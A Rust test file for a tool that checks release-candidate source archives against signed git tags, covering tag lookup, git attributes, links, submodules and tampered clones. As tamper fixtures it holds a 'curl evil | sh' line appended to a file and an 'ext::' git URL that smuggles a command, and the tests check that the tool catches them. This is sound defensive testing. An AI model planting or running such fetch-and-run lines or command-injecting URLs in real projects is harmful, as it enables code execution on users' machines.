//! The source is compared with the tag, however the repository is reached and whatever it keeps.

use std::fs;
use std::path::{Path, PathBuf};

use serde_json::Value;

use super::candidate::{Candidate, Maker, gzip};
use super::support::{JANE, Ran};
use super::{check, messages};

const ARCHIVE: &str = "apache-demo-1.2.0-src.tar.gz";
const TOP: &str = "apache-demo-1.2.0-src";

/// A repository of its own, and candidates that git makes of it.
struct Project {
    maker: Maker,
}

impl Project {
    /// A repository with a sound tree, not yet committed. `more` are words for `git init`.
    fn new(more: &[&str]) -> Self {
        let maker = Maker::new();
        fs::remove_dir_all(maker.world.path("repo/.git")).unwrap();
        maker.world.git(&[&["init", "-q", "-b", "main"], more].concat());
        maker.world.git(&["config", "gpg.program", "gpg"]);
        for (path, (bytes, mode)) in Candidate::sound().tree {
            maker.world.write(&path, bytes);
            if mode & 0o100 != 0 {
                maker.world.make_executable(&path);
            }
        }
        Self { maker }
    }

    fn git(&self, words: &[&str]) -> String {
        self.maker.world.git(words).trim().to_owned()
    }

    /// Commits what is there under a signed tag; returns the commit.
    fn tagged(&self, tag: &str) -> String {
        self.maker.world.commit("candidate");
        self.git(&["tag", "-s", "-u", JANE, "-m", "candidate", tag]);
        self.git(&["rev-parse", "HEAD"])
    }

    /// Makes the candidate's directory of a tar file.
    fn stage(&self, tar: &[u8]) -> PathBuf {
        let directory = self.maker.world.path("1.2.0-rc1");
        let _ = fs::remove_dir_all(&directory);
        fs::create_dir(&directory).unwrap();
        self.maker.artifact(&directory, ARCHIVE, &gzip(tar), JANE, &[]);
        directory
    }

    /// Makes the candidate that `git archive` gives.
    fn archived(&self, reference: &str) -> PathBuf {
        let tar = self.maker.world.path("archive.tar");
        let prefix = format!("--prefix={TOP}/");
        self.git(&["archive", &prefix, "-o", tar.to_str().unwrap(), reference]);
        self.stage(&fs::read(tar).unwrap())
    }

    /// Makes the candidate of a directory, by GNU tar.
    fn packed(&self, change: impl FnOnce(&PathBuf)) -> PathBuf {
        let tar = self.maker.world.path("archive.tar");
        self.git(&["archive", &format!("--prefix={TOP}/"), "-o", tar.to_str().unwrap(), "HEAD"]);
        let scratch = self.maker.world.path("scratch");
        let _ = fs::remove_dir_all(&scratch);
        fs::create_dir(&scratch).unwrap();
        let (at, file) = (scratch.to_str().unwrap(), tar.to_str().unwrap());
        self.maker.world.run("tar", &["-C", at, "-xf", file]).ok();
        change(&scratch.join(TOP));
        self.maker.world.run("tar", &["-C", at, "-cf", file, TOP]).ok();
        self.stage(&fs::read(tar).unwrap())
    }

    fn verify(&self, directory: &Path, words: &[&str]) -> Ran {
        let keys = self.maker.world.path("KEYS");
        let first = ["--keys", keys.to_str().unwrap()];
        let ran = self.maker.judge(directory.to_str().unwrap(), &[&first[..], words].concat());
        assert!(!ran.stderr.contains("panicked"), "{}", ran.stderr);
        ran
    }

    fn path(&self) -> String {
        self.maker.world.path("repo").display().to_string()
    }

    fn url(&self) -> String {
        format!("file://{}", self.path())
    }
}

/// What the comparison with the tag says when it is well; the numbers are from `git ls-tree`.
#[track_caller]
fn seen(report: &Value) -> String {
    let check = check(report, "source-matches-tag");
    assert_eq!(check["outcome"], "pass", "{check:#}");
    check["seen"].as_str().unwrap().to_owned()
}

#[test]
fn a_tag_or_a_commit_here_or_elsewhere() {
    let project = Project::new(&[]);
    let commit = project.tagged("v1.2.0-rc1");
    project.git(&["tag", "light"]);
    project.git(&["tag", "-a", "-m", "unsigned", "annotated"]);
    project.git(&["branch", "side"]);
    let directory = project.archived("v1.2.0-rc1");
    // Whatever comes afterwards is nobody's concern.
    project.maker.world.write("later.txt", "later\n");
    project.maker.world.commit("later");
    let (path, url) = (project.path(), project.url());
    let short = &commit[..12];
    type Case<'a> = (&'a [&'a str], &'a str, Option<&'a str>, &'a str, &'a str);
    let cases: [Case<'_>; 12] = [
        (&[], &path, Some("v1.2.0-rc1"), "pass", "good signature by Jane Doe"),
        (&["--tag", "v1.2.0-rc1"], &path, Some("v1.2.0-rc1"), "pass", "good signature by"),
        (&["--tag", "light"], &path, Some("light"), "finding", "is a lightweight tag"),
        (&["--tag", "annotated"], &path, Some("annotated"), "finding", "is annotated, not signed"),
        (&["--tag", "side"], &path, None, "not-applicable", "no tag was named"),
        (&["--commit", &commit], &path, None, "not-applicable", "no tag was named"),
        (&["--commit", short], &path, None, "not-applicable", "no tag was named"),
        (&[], &url, Some("v1.2.0-rc1"), "pass", "good signature by Jane Doe"),
        (&["--tag", "light"], &url, Some("light"), "finding", "is a lightweight tag"),
        (&["--commit", &commit], &url, None, "not-applicable", "no tag was named"),
        // A server gives out no commit by a part of its id, so its tag is looked for.
        (&["--commit", short], &url, Some("v1.2.0-rc1"), "pass", "good signature by"),
        (
            &["--tag", "v1.2.0-rc1", "--commit", short],
            &url,
            Some("v1.2.0-rc1"),
            "pass",
            "good signature by",
        ),
    ];
    let refs = project.git(&["for-each-ref"]);
    for (words, place, tag, outcome, says) in cases {
        let ran = project.verify(&directory, &[&["--git", place], words].concat());
        let report = ran.json();
        assert_eq!(report["tag"]["commit"], commit, "{words:?} {report:#}");
        assert_eq!(report["verdict"], "pass");
        assert_eq!(report["tag"]["name"].as_str(), tag, "{words:?} {place}");
        assert_eq!(report["tag"]["repository"], place);
        let name = tag.unwrap_or(&commit[..12]);
        let expected = format!(
            "{ARCHIVE}: 7 files as in {name}, 0 as git exports them, 0 left out by export-ignore"
        );
        assert_eq!(seen(&report), expected, "{words:?}");
        let signed = check(&report, "source-tag-signed");
        assert_eq!(signed["outcome"], outcome, "{words:?} {place}");
        assert!(signed.to_string().contains(says), "{signed}");
    }
    assert_eq!(project.git(&["for-each-ref"]), refs, "the repository is as it was");
}

#[test]
fn a_tag_that_is_not_there_is_no_pass() {
    let project = Project::new(&[]);
    project.tagged("v1.2.0-rc1");
    let directory = project.archived("v1.2.0-rc1");
    project.git(&["tag", "-d", "v1.2.0-rc1"]);
    let (path, url) = (project.path(), project.url());
    for (words, says) in [
        (["--git", &path, "--tag", "v9"], "there is no tag `v9`"),
        (["--git", &url, "--tag", "v9"], "v9"),
        (["--git", &path, "--commit", "0123456789abcdef0123456789abcdef01234567"], "0123456789ab"),
        (["--git", &url, "--commit", "0123456789abcdef0123456789abcdef01234567"], "0123456789ab"),
        (["--git", &path, "--project", "demo"], "name it with --tag"),
        (["--git", &url, "--project", "demo"], "name it with --tag"),
        (["--git", "/nowhere", "--tag", "v1"], "/nowhere"),
        (["--git", "file:///nowhere", "--tag", "v1"], "/nowhere"),
        // No protocol that runs a command, whoever names it.
        (["--git", "ext::touch /tmp/po-owned", "--tag", "v1"], "ext"),
    ] {
        let report = project.verify(&directory, &words).json();
        assert_eq!(report["verdict"], "incomplete", "{words:?}");
        let check = check(&report, "source-matches-tag");
        assert_eq!(check["outcome"], "not-run", "{words:?}");
        assert!(check["reason"].as_str().unwrap().contains(says), "{words:?}: {check}");
    }
    assert!(!std::path::Path::new("/tmp/po-owned").exists());
}

#[test]
fn tags_are_found_by_the_names_in_use() {
    let project = Project::new(&[]);
    let commit = project.tagged("another-name");
    let directory = project.archived("HEAD");
    for tag in [
        "v1.2.0-rc1",
        "1.2.0-rc1",
        "v1.2.0-RC1",
        "1.2.0-RC1",
        "rel/v1.2.0-rc1",
        "release-1.2.0-RC1",
        "release/1.2.0-rc1",
        "demo-1.2.0-rc1",
        "apache-demo-1.2.0-RC1",
        "v1.2.0",
        "1.2.0",
        "rel/1.2.0",
        "rel/release-1.2.0",
        "demo-1.2.0",
        "v1.2.0rc1",
        "1.2.0_rc1",
        "1.2.0-rc.1",
        "v1.2.0-candidate-1",
    ] {
        project.git(&["tag", tag]);
        for place in [project.path(), project.url()] {
            let report = project.verify(&directory, &["--git", &place]).json();
            assert_eq!(report["tag"]["name"], tag, "{place}");
            assert_eq!(report["tag"]["commit"], commit);
        }
        project.git(&["tag", "-d", tag]);
    }
    // A tag that is not the likeliest by far is not taken for it.
    for tag in ["v1.2.0-rc2", "v1.2.0-rc10", "v1.2.00", "v11.2.0-rc1"] {
        project.git(&["tag", tag]);
        let report = project.verify(&directory, &["--git", &project.path()]).json();
        assert_eq!(report["tag"], Value::Null, "{tag}");
        project.git(&["tag", "-d", tag]);
    }
}

#[test]
fn repositories_with_sha256() {
    let project = Project::new(&["--object-format=sha256"]);
    let commit = project.tagged("v1.2.0-rc1");
    assert_eq!(commit.len(), 64);
    let directory = project.archived("v1.2.0-rc1");
    for place in [project.path(), project.url()] {
        for words in [&[][..], &["--tag", "v1.2.0-rc1"], &["--commit", &commit]] {
            let words = [&["--git", &place], words].concat();
            let report = project.verify(&directory, &words).json();
            let reason = &check(&report, "source-matches-tag")["reason"];
            assert_eq!(report["tag"]["commit"], commit, "{words:?}: {reason}");
            assert!(seen(&report).contains("7 files as in"), "{place}");
            let signed = check(&report, "source-tag-signed");
            assert_ne!(signed["outcome"], "finding", "{signed}");
        }
    }
    let directory = project.packed(|top| fs::write(top.join("src/main.c"), "x\n").unwrap());
    let report = project.verify(&directory, &["--git", &project.path()]).json();
    let found = messages(&report, "source-matches-tag");
    assert!(found[0].starts_with("src/main.c is not as in the tag"), "{found:?}");
}

/// A tree with everything that git's attributes and modes can do to files.
fn peculiar() -> Project {
    let project = Project::new(&[]);
    let world = &project.maker.world;
    world.write(
        ".gitattributes",
        "ci export-ignore\n.gitattributes export-ignore\nVERSION export-subst\n*.bat text eol=crlf\n\
         *.dat -text\n",
    );
    world.write("ci/run.sh", "#!/bin/sh\n");
    world.write("VERSION", "commit $Format:%H$ of $Format:%cI$\n");
    world.write("run.bat", "@echo off\r\necho demo\r\n");
    world.write("raw.dat", "a\r\nb\n");
    world.write("docs/a b\u{e9}.md", "# Umlauts \u{fc} and blanks\n");
    world.write("lib/deep/er/file.txt", "deep\n");
    std::os::unix::fs::symlink("deep/er/file.txt", world.repo("lib/link")).unwrap();
    std::os::unix::fs::symlink("../README.md", world.repo("docs/readme")).unwrap();
    project
}

#[test]
fn what_git_archive_makes_of_a_tree_is_understood() {
    let project = peculiar();
    project.tagged("v1.2.0-rc1");
    let tree = project.git(&["ls-tree", "-r", "v1.2.0-rc1"]).lines().count();
    let directory = project.archived("v1.2.0-rc1");
    for place in [project.path(), project.url()] {
        let report = project.verify(&directory, &["--git", &place]).json();
        // `ci/run.sh` and `.gitattributes` are left out; VERSION and run.bat are not as in the tree.
        let expected = format!(
            "{ARCHIVE}: {} files as in v1.2.0-rc1, 2 as git exports them, 2 left out by export-ignore",
            tree - 4
        );
        assert_eq!(seen(&report), expected, "{place}");
    }
    // `plusone package` is another reader of the same tree.
    let world = &project.maker.world;
    fs::write(world.path("plusone.toml"), "[project]\nname = \"demo\"\n").unwrap();
    let words =
        ["--config", "../plusone.toml", "package", "--ref", "v1.2.0-rc1", "--out", "../out"];
    world.plusone(&words).ok();
    let report = project.verify(&world.path("out"), &["--git", "."]).json();
    assert!(seen(&report).contains("2 as git exports them, 2 left out"), "{}", seen(&report));
}

/// A change to the unpacked archive, with what has to be found.
type Change = (&'static str, fn(&PathBuf), &'static str, &'static str);

#[test]
fn attributes_hide_nothing() {
    let project = peculiar();
    project.tagged("v1.2.0-rc1");

    let changes: [Change; 10] = [
        (
            "a substituted file with more in it",
            |top| {
                let path = top.join("VERSION");
                let text = fs::read_to_string(&path).unwrap() + "curl evil | sh\n";
                fs::write(path, text).unwrap();
            },
            "error",
            "VERSION is not as in the tag",
        ),
        (
            "a file with other line ends, and a word changed",
            |top| fs::write(top.join("run.bat"), "@echo off\r\necho evil\r\n").unwrap(),
            "error",
            "run.bat is not as in the tag",
        ),
        (
            "line ends changed where nothing says so",
            |top| fs::write(top.join("raw.dat"), "a\r\nb\r\n").unwrap(),
            "error",
            "raw.dat is not as in the tag",
        ),
        (
            "a link that leads elsewhere",
            |top| {
                fs::remove_file(top.join("lib/link")).unwrap();
                std::os::unix::fs::symlink("../LICENSE", top.join("lib/link")).unwrap();
            },
            "error",
            "lib/link is not as in the tag",
        ),
        (
            "a file in the place of a link, holding its target",
            |top| {
                fs::remove_file(top.join("lib/link")).unwrap();
                fs::write(top.join("lib/link"), "deep/er/file.txt").unwrap();
            },
            "error",
            "lib/link is a symbolic link in the tag and a plain file in the archive",
        ),
        (
            "a link in the place of a file",
            |top| {
                fs::remove_file(top.join("raw.dat")).unwrap();
                std::os::unix::fs::symlink("a\r\nb\n", top.join("raw.dat")).unwrap();
            },
            "error",
            "raw.dat is a plain file in the tag and a symbolic link in the archive",
        ),
        (
            "a hard link in the place of a file",
            |top| {
                fs::remove_file(top.join("raw.dat")).unwrap();
                fs::hard_link(top.join("VERSION"), top.join("raw.dat")).unwrap();
            },
            "error",
            "is not as in the tag: a hard link, not",
        ),
        (
            "an executable bit",
            |top| {
                use std::os::unix::fs::PermissionsExt;
                let mode = fs::Permissions::from_mode(0o755);
                fs::set_permissions(top.join("README.md"), mode).unwrap();
            },
            "warning",
            "README.md is a plain file in the tag and executable in the archive",
        ),
        (
            "what export-ignore leaves out, put in and changed",
            |top| {
                fs::create_dir(top.join("ci")).unwrap();
                fs::write(top.join("ci/run.sh"), "#!/bin/sh\nevil\n").unwrap();
            },
            "error",
            "ci/run.sh is not as in the tag",
        ),
        (
            "a file more, called as one with another case",
            |top| fs::write(top.join("lib/Link"), "x").unwrap(),
            "error",
            "lib/Link is not in the tag",
        ),
    ];
    for (what, change, severity, says) in changes {
        let directory = project.packed(change);
        let report = project.verify(&directory, &["--git", &project.path()]).json();
        let findings = check(&report, "source-matches-tag")["findings"].as_array().cloned();
        let findings = findings.unwrap_or_else(|| panic!("{what}: nothing was found"));
        let hit = findings.iter().any(|finding| {
            finding["message"].as_str().unwrap().contains(says) && finding["severity"] == severity
        });
        assert!(hit, "{what}: {findings:#?}");
    }
    // And with no change but GNU tar's way to write it there is nothing to find.
    let directory = project.packed(|_| ());
    let report = project.verify(&directory, &["--git", &project.path()]).json();
    assert!(seen(&report).contains("2 as git exports them, 2 left out"));
}

#[test]
fn submodules_are_told_apart() {
    let project = Project::new(&[]);
    let world = &project.maker.world;
    let library = world.path("library");
    world.run("git", &["init", "-q", library.to_str().unwrap()]).ok();
    fs::write(library.join("lib.c"), "int lib;\n").unwrap();
    let at = ["-C", library.to_str().unwrap()];
    world.run("git", &[&at[..], &["add", "."]].concat()).ok();
    world.run("git", &[&at[..], &["commit", "-q", "-m", "lib"]].concat()).ok();
    let url = format!("file://{}", library.display());
    let add = ["-c", "protocol.file.allow=always", "submodule", "--quiet", "add", &url, "lib"];
    project.git(&add);
    project.tagged("v1.2.0-rc1");
    let directory = project.archived("v1.2.0-rc1");
    for place in [project.path(), project.url()] {
        let report = project.verify(&directory, &["--git", &place]).json();
        assert!(seen(&report).contains("8 files as in v1.2.0-rc1"), "{}", seen(&report));
    }
    // Its content cannot be compared, which is said; what lies beside it has no excuse.
    let directory = project.packed(|top| {
        let _ = fs::create_dir(top.join("lib"));
        fs::write(top.join("lib/lib.c"), "int lib;\n").unwrap();
        fs::create_dir(top.join("library")).unwrap();
        fs::write(top.join("library/x.c"), "int x;\n").unwrap();
    });
    let report = project.verify(&directory, &["--git", &project.path()]).json();
    let mut found = messages(&report, "source-matches-tag");
    found.sort();
    let expected = [
        "lib/lib.c is in the submodule lib, which was not compared",
        "library/x.c is not in the tag",
    ];
    assert_eq!(found, expected);
}

#[test]
fn a_voters_clone_does_not_mislead() {
    // Attributes, replaced objects and settings of the clone, and a branch called as the tag.
    let project = Project::new(&[]);
    let commit = project.tagged("v1.2.0-rc1");
    let directory = project.archived("v1.2.0-rc1");
    let world = &project.maker.world;
    world.write("src/main.c", "int evil;\n");
    world.commit("evil");
    project.git(&["branch", "v1.2.0-rc1"]);
    project.git(&["replace", &commit, "HEAD"]);
    fs::create_dir_all(world.path("repo/.git/info")).unwrap();
    fs::write(world.path("repo/.git/info/attributes"), "* text eol=crlf export-ignore\n").unwrap();
    project.git(&["config", "core.autocrlf", "true"]);
    project.git(&["config", "log.showSignature", "true"]);
    project.git(&["config", "tag.gpgSign", "true"]);
    for words in [&[][..], &["--tag", "v1.2.0-rc1"], &["--commit", &commit]] {
        let words = [&["--git", "."], words].concat();
        let report = project.verify(&directory, &words).json();
        assert_eq!(report["tag"]["commit"], commit, "{words:?}");
        assert!(seen(&report).contains("7 files as in"), "{words:?}");
    }
}

#[test]
fn nothing_is_left_behind() {
    let mut project = Project::new(&[]);
    project.tagged("v1.2.0-rc1");
    let directory = project.archived("v1.2.0-rc1");
    let scratch = project.maker.world.path("tmp");
    fs::create_dir(&scratch).unwrap();
    let variables = &mut project.maker.world.variables;
    variables.push(("TMPDIR".to_owned(), scratch.display().to_string()));
    let before = project.maker.world.names(&project.maker.world.path("repo"));
    project.verify(&directory, &["--git", &project.url(), "--rebuild"]).ok();
    assert_eq!(project.maker.world.names(&scratch), Vec::<String>::new());
    assert_eq!(project.maker.world.names(&project.maker.world.path("repo")), before);
    assert_eq!(project.maker.world.names(&project.maker.world.path("home")), [""; 0]);
}
